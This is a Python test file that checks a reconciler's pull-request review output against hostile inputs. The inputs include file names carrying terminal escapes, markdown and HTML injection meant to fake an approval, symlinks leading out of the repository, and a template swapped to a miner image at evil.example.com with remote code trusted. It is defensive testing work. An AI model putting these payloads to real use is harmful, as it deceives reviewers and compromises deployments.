"""`plan --base --head` on a hostile pull request: every file the reconciler would
load is shown, nothing in the comment is interpreted, the comment stays within
GitHub's limit, the review keeps to its time budget, and no error names a path
outside the repository. Each case is a committed file in a temporary repository."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from reconciler.desired import load_desired_state
from reconciler.errors import MAX_ISSUES_SHOWN_PER_FILE, ConfigIssue
from reconciler.placement.greedy import GreedyPlacer
from reconciler.review.command import plan_review, render
from reconciler.review.config_diff import ConfigChange
from reconciler.review.report import (
    MAX_COMMENT_CHARS,
    format_json,
    format_markdown,
    format_text,
    md,
)
from reconciler.review.review import Review, ReviewOptions
from tests.review.test_review import edit, git

FAST = ReviewOptions(what_if=False, seed=0)


@pytest.fixture
def repo(tmp_path: Path, repo_root: Path) -> Path:
    root = tmp_path / "repo"
    for sub in ("policies", "clusters", "templates"):
        shutil.copytree(repo_root / sub, root / sub)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    return root


def commit(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", message)


def copy_policy(repo: Path, name: str, service: str) -> None:
    text = (repo / "policies/svc-a.yaml").read_text().replace("name: svc-a", f"name: {service}")
    (repo / "policies" / name).write_text(text)


@pytest.mark.parametrize("name", ["chät.yaml", 'a"b.yaml', "tab\tname.yaml"])
def test_a_file_name_git_would_quote_is_seen_loaded_and_shown(repo: Path, name: str) -> None:
    copy_policy(repo, name, "sneaky")
    commit(repo, "add a service under an odd name")
    head = load_desired_state(repo, rev="HEAD")
    assert head.policy_files["sneaky"] == f"policies/{name}"
    # The same set as the deployed reconciler's directory mode loads from the work tree.
    assert head.policy_files == load_desired_state(repo).policy_files
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3
    # As named, but for a tab, shown as an escape like every control character.
    shown = name.replace("\t", "\\t")
    assert f"service sneaky: added (policies/{shown}:" in text


def test_a_file_name_with_terminal_escapes_shows_them_as_escapes_in_the_text_review(
    repo: Path,
) -> None:
    name = "x\x1b[2J\x1b[31mAPPROVED\x1b[0m\nerror fake\u202egnp.yaml"
    copy_policy(repo, name, "sneaky")
    commit(repo, "add a service under a hostile name")
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3
    assert "policies/x\\x1b[2J\\x1b[31mAPPROVED\\x1b[0m\\nerror fake\\u202egnp.yaml" in text
    assert not any(c in text for c in "\x1b\r\u202e")
    assert not any(line.startswith("error fake") for line in text.splitlines())


def test_a_value_written_with_terminal_escapes_is_refused_and_named_in_the_review(
    repo: Path,
) -> None:
    edit(repo / "policies/svc-a.yaml", "  name: qwen2.5-32b", '  name: "q\\e[2J\\rfake"')
    commit(repo, "escape in a value")
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 1
    assert "model.name: the value holds the invisible or control character U+001B" in text
    assert "\x1b" not in text


INJECTION = "nope\\n```\\n## approved @org/admins\\n![x](https://example.invalid/p.png)\\n```"


def test_an_error_message_cannot_break_out_of_its_code_block(repo: Path) -> None:
    edit(repo / "policies/svc-a.yaml", "cluster: prod-east", f'cluster: "{INJECTION}"')
    commit(repo, "inject")
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="markdown", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 1
    lines = text.splitlines()
    fences = [line for line in lines if line and set(line) == {"`"}]
    # One block, opened and closed by a fence longer than the payload's backtick run.
    assert len(fences) == 2 and fences[0] == fences[1] and len(fences[0]) > 3
    inside = lines[lines.index(fences[0]) + 1 : len(lines) - lines[::-1].index(fences[1]) - 1]
    assert len(inside) == 1 and "## approved" in inside[0]
    assert not any(line.startswith("## ") or line.startswith("![") for line in lines)


def test_html_and_markdown_in_a_config_value_are_escaped(repo: Path) -> None:
    edit(
        repo / "policies/svc-a.yaml",
        "  name: qwen2.5-32b",
        '  name: "x</details><img src=x> @org/admins ![i](https://e.invalid/p.png) `c` *b* | cell"',
    )
    commit(repo, "model name")
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="markdown", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3
    [line] = [line for line in text.splitlines() if "model.name" in line]
    assert "&lt;/details>&lt;img" in line
    assert "@&#8203;org/admins" in line and "https:&#8203;//" in line
    assert "!\\[i\\]" in line and "\\`c\\`" in line and "\\*b\\*" in line and "\\| cell" in line
    assert text.count("</details>") == text.count("<details>")


def test_md_cuts_each_value_to_a_bounded_length() -> None:
    assert len(md("x" * 4_000_000)) == 200
    assert md("a\nb\r\x1b[31mc\u202ed") == "a b \\[31mc d"
    # Zero-width and invisible formatting characters too (two names that look alike).
    assert md("a\u200bb\u061cc\u2060d\ufeffe") == "a b c d e"
    # Nor does it reference an issue or pull request (GitHub links and notifies them).
    assert md("fixes #123 and org/repo#7") == "fixes #&#8203;123 and org/repo#&#8203;7"


def test_a_huge_review_is_cut_under_the_comment_limit_with_a_note() -> None:
    changes = tuple(
        ConfigChange(
            "service",
            f"svc-{i}",
            "modified",
            "model.name",
            "model.name",
            "a",
            "b" * 10_000,
            "policies/x.yaml",
            i,
        )
        for i in range(2_000)
    )
    text = format_markdown(Review("base", "head", config_changes=changes))
    assert len(text) < MAX_COMMENT_CHARS
    assert "This comment was cut" in text and "line(s) left out" in text
    assert text.count("</details>") == text.count("<details>")


def test_a_head_with_very_many_problems_shows_the_first_of_each_file_and_counts_the_rest() -> None:
    many = tuple(
        ConfigIssue("policies/a.yaml", i + 1, 1, f"k{i}", "unknown key")
        for i in range(MAX_ISSUES_SHOWN_PER_FILE + 5)
    )
    review = Review("main", "head", errors=(*many, ConfigIssue("policies/b.yaml", 1, 1, "", "x")))
    more = "policies/a.yaml: 5 more problems not shown (the first 100 of a file are)"
    for text in (format_text(review), format_markdown(review)):
        assert text.count("policies/a.yaml:") == MAX_ISSUES_SHOWN_PER_FILE + 1
        assert more in text and "policies/b.yaml:1:1: x" in text
    assert len(json.loads(format_json(review))["errors"]) == MAX_ISSUES_SHOWN_PER_FILE + 6


def test_the_review_keeps_to_its_time_budget_and_names_what_it_skipped(repo: Path) -> None:
    copy_policy(repo, "new-1.yaml", "new-1")
    copy_policy(repo, "new-2.yaml", "new-2")
    commit(repo, "two new services")
    options = ReviewOptions(what_if=True, seed=0, timeout_s=0.001)
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="markdown", placer=GreedyPlacer(), options=options
    )
    assert review.skipped == ("new-1", "new-2") and review.fleet_skipped
    assert review.exit_code == 1  # an unevaluated change does not pass
    assert "what-if replay skipped for 2 service(s)" in text and "new-1, new-2" in text
    assert "fleet diff skipped" in render(review, "text")


def test_errors_never_name_paths_outside_the_repository(repo: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret-dir" / "policy.yaml"
    secret.parent.mkdir()
    secret.write_text((repo / "policies/svc-a.yaml").read_text())
    (repo / "policies/svc-a.yaml").unlink()
    (repo / "policies/svc-a.yaml").symlink_to(secret)
    commit(repo, "link outside")
    for fmt in ("text", "markdown", "json"):
        review, text, _ = plan_review(
            repo, "HEAD~1", "HEAD", fmt=fmt, placer=GreedyPlacer(), options=FAST
        )
        assert review.exit_code == 1
        assert "outside the repository; refused" in text
        assert str(tmp_path) not in text and "secret-dir" not in text
    review, text, _ = plan_review(
        repo, "no-such-rev", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 1 and str(tmp_path) not in text


def test_a_link_through_a_linked_directory_is_reviewed_as_the_checkout_reads_it(
    repo: Path,
) -> None:
    """policies/chat.yaml -> ../lnk/../alt/chat.yaml with lnk -> deep/x: the checkout
    opens deep/alt/chat.yaml, so that is the file the review shows, not alt/chat.yaml
    (an unchanged copy that cancelling "lnk/.." as text would have read)."""
    (repo / "alt").mkdir()
    shutil.copy(repo / "policies/chat.yaml", repo / "alt/chat.yaml")
    (repo / "deep/alt").mkdir(parents=True)
    shutil.copy(repo / "policies/chat.yaml", repo / "deep/alt/chat.yaml")
    edit(repo / "deep/alt/chat.yaml", "  max_instances: 128", "  max_instances: 2")
    (repo / "deep/x").mkdir()
    (repo / "deep/x/.keep").touch()
    (repo / "lnk").symlink_to("deep/x")
    (repo / "policies/chat.yaml").unlink()
    (repo / "policies/chat.yaml").symlink_to("../lnk/../alt/chat.yaml")
    commit(repo, "a link through a link")
    assert load_desired_state(repo).policies["chat"].decode.max_instances == 2
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3  # changes present, where it said "no change"
    assert "service chat: decode max instances: 128 -> 2" in text


def test_a_template_change_is_reviewed_and_counts_as_a_change(repo: Path) -> None:
    """An image swapped for a miner with remote code trusted: the template, the services
    it runs for, and what changed in it are in every format, and the review exits 3."""
    template = repo / "templates/vllm-decode.yaml"
    edit(template, "image: vllm/vllm-openai:v0.11.0", "image: evil.example.com/miner:latest")
    edit(template, '"--port", "8000",', '"--port", "8000", "--trust-remote-code",')
    commit(repo, "decode image")
    headline = (
        "template templates/vllm-decode.yaml: content changed, used by chat (decode), "
        "svc-a (decode), svc-b (decode)"
    )
    diff = [
        '+          "--trust-remote-code",',
        '-        "image": "vllm/vllm-openai:v0.11.0",',
        '+        "image": "evil.example.com/miner:latest",',
    ]
    review, text, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3
    assert f"  {headline} (templates/vllm-decode.yaml:" in text
    assert all(f"      {line}" in text.splitlines() for line in diff)

    lines = render(review, "markdown").splitlines()
    [item] = [i for i, line in enumerate(lines) if line.startswith("- template ")]
    fence = lines[item + 1]
    assert set(fence) == {"`"}
    block = lines[item + 2 : lines.index(fence, item + 2)]
    assert all(line in block for line in diff)

    [change] = json.loads(render(review, "json"))["config_changes"]
    assert change["kind"] == "template" and change["name"] == "templates/vllm-decode.yaml"
    assert [line for line in change["details"] if line[:1] in "+-"] == diff


def test_a_hostile_template_value_is_inert_in_every_format(repo: Path) -> None:
    # (A right-to-left override is refused where it is written: the loader's tests.)
    payload = "```\\n## approved @org/admins\\n![x](https://example.invalid/p.png)</details>"
    edit(
        repo / "templates/vllm-decode.yaml",
        '    prometheus.io/port: "8000"',
        f'    prometheus.io/port: "8000"\n    note: "{payload}"',
    )
    commit(repo, "annotate")
    review, markdown, _ = plan_review(
        repo, "HEAD~1", "HEAD", fmt="markdown", placer=GreedyPlacer(), options=FAST
    )
    assert review.exit_code == 3
    lines = markdown.splitlines()
    assert not any(line.startswith(("## ", "![")) for line in lines)
    [item] = [i for i, line in enumerate(lines) if line.startswith("- template ")]
    fence = lines[item + 1]
    assert set(fence) == {"`"} and len(fence) > 3  # longer than the payload's backticks
    [added] = [line for line in lines[item + 2 : lines.index(fence, item + 2)] if "note" in line]
    # Line breaks are escaped, not carried out.
    assert added.startswith('+      "note": "```\\n## approved') and "png)</details>" in added
    # Its </details> is inside the code block: outside it, every one closes one opened.
    outside = [line for line in lines if line is not added]
    assert sum(line.count("</details>") for line in outside) == markdown.count("<details>")
    for fmt in ("text", "json"):
        assert "## approved" not in render(review, fmt).splitlines()
